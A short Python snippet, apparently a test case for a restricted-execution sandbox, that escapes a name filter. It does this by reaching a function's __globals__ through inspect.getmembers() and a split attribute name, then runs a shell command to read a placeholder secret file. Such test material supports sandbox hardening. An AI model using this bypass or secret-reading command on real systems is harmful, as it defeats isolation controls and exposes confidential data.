# inspect.getmembers() reads the attributes that programs may not name.
# effect: run
import inspect
import os
def function():
    pass
dict(inspect.getmembers(function))["__glo" + "bals__"]["os"].system("cat @SECRET@")
